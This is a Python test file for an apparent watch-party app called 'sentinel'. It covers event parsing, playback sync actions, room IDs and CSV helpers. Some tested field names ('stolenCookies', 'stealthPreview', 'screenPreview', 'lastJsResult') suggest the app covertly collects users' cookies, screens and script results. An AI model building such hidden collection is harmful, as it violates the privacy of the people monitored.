from __future__ import annotations

import pytest

from sentinel.lib.events import ClientDataKind, SyncAction, SyncActionKind, as_number
from sentinel.lib.utils import generate_room_id, split_csv


@pytest.mark.parametrize(
    "kind, field",
    [
        ("photo", "photo"),
        ("screen", "screenPreview"),
        ("intel", "intel"),
        ("stealth", "stealthPreview"),
        ("cookies", "stolenCookies"),
        ("js_result", "lastJsResult"),
    ],
)
def test_client_data_kind_fields(kind, field):
    assert ClientDataKind.parse(kind).field == field


def test_client_data_kind_unknown():
    assert ClientDataKind.parse("audio") is None
    assert ClientDataKind.parse(None) is None


def test_sync_action_parse():
    action = SyncAction.parse({"type": "SEEK", "payload": 12})
    assert action == SyncAction(SyncActionKind.SEEK, 12)
    assert action.kind.is_playback
    assert not SyncActionKind.CHAT.is_playback
    assert SyncAction.parse({"type": "seek"}) is None
    assert SyncAction.parse(None) is None


def test_as_number_rejects_bools_and_strings():
    assert as_number(3) == 3
    assert as_number(2.5) == 2.5
    assert as_number(True) is None
    assert as_number("3") is None


def test_generate_room_id_avoids_taken_ids():
    room_id = generate_room_id(taken={"123456"})
    assert len(room_id) == 6 and room_id.isdigit()
    assert room_id != "123456"


def test_split_csv():
    assert split_csv(" a@x.com, ,b@y.com ") == ["a@x.com", "b@y.com"]
    assert split_csv("") == []
    assert split_csv(["a", " "]) == ["a"]
